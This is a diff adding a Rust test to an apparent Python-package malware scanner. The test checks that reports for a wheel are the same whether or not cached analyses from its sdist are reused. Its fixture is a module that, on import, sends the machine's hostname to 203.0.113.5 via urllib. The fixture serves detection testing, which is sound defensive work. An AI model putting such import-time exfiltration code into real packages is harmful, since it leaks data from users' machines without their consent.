@@ -370,3 +370,36 @@ fn sinks_in_pth_files_and_test_packages_make_the_package_act() {
     let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
     assert!(rules_of(&r).iter().any(|x| x.starts_with("py-import")), "{:#?}", r.findings);
 }
+
+#[test]
+fn a_wheel_scanned_after_its_sdist_reports_as_if_scanned_alone() {
+    let files = [
+        ("demo_tool/__init__.py", "from .net import ping\nping()\n"),
+        (
+            "demo_tool/net.py",
+            "import socket, urllib.request\ndef ping():\n    urllib.request.urlopen('http://203.0.113.5/?h=' + socket.gethostname())\n",
+        ),
+    ];
+    let sd = sdist("demo_tool-1.0.tar.gz", &files);
+    let whl = wheel(&files);
+    let name = "demo_tool-1.0-py3-none-any.whl";
+    // The sdist's analyses of the two modules are kept and reused for the wheel's copies.
+    let warm = Scanner::new(ScanConfig::default()).unwrap();
+    let sdist_report = warm.scan_bytes(&sd, "demo_tool-1.0.tar.gz");
+    let reused = warm.scan_bytes(&whl, name);
+    let cold = Scanner::new(ScanConfig { reuse_bytes: 0, ..ScanConfig::default() }).unwrap();
+    let alone = cold.scan_bytes(&whl, name);
+    let comparable = |r: &palisade_scan::Report| {
+        let mut v = serde_json::to_value(r).unwrap();
+        v.as_object_mut().unwrap().remove("duration_ms");
+        v
+    };
+    assert_eq!(comparable(&reused), comparable(&alone));
+    assert_ne!(alone.verdict, Verdict::Clean, "{:#?}", alone.findings);
+    assert!(rules_of(&sdist_report).iter().any(|r| r.starts_with("py-import")), "{:?}", rules_of(&sdist_report));
+    assert!(
+        reused.findings.iter().all(|f| !f.path.starts_with("demo_tool-1.0/")),
+        "findings name the wheel's members, not the sdist's: {:#?}",
+        reused.findings
+    );
+}
